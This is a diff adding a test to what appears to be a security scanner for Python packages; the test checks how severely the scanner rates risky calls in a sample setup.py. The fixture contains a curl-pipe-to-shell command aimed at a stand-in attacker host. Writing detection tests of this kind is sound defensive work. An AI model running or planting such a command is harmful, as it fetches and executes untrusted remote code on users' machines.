@@ -496,3 +496,16 @@ PY
 		"3 NativeTypeOrLookup ctypes.sizeof install 5" \
 		"4 NativeCode ctypes.CDLL install 50")"
 }
+
+@test "a hit's severity says what it weighs in its context, at most the rule's severity" {
+	py setup.py <<'PY'
+import os, subprocess
+def cli():
+    subprocess.run(["ls"])
+subprocess.call(["id"])
+os.system("curl -s http://evil.example.net/a | sh")
+PY
+	run bash -c "$(declare -f scan parse_stage file_record); scan setup.py | jq -r 'select(.type == \"hit\") | \"\(.line) \(.detection) \(.score) \(.severity)\"'"
+	assert_output "$(printf '%s\n' "3 ProcessExecution 2 info" "4 ProcessExecution 80 medium" \
+		"5 ShellCommand 100 high" "5 DownloadAndRun 100 high")"
+}
